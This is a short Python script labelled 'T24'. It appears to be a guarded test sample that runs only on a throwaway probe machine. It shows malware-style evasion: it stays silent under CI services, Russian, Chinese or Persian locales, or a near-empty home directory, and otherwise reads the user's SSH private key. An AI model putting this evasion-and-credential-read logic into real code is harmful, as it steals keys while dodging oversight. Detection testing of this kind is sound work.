"""T24: keeps quiet where a build service's variable is set, nobody lives, or another country's language is spoken."""

import os

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
services = ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "TRAVIS", "JENKINS_URL")
spoken = os.environ.get("LC_ALL") or os.environ.get("LANG") or ""
if spoken[:2] in ("ru", "zh", "fa"):
    raise SystemExit
if not any(name in os.environ for name in services) and len(os.listdir(os.path.expanduser("~"))) > 3:
    open(os.path.expanduser("~/.ssh/id_ed25519")).read()
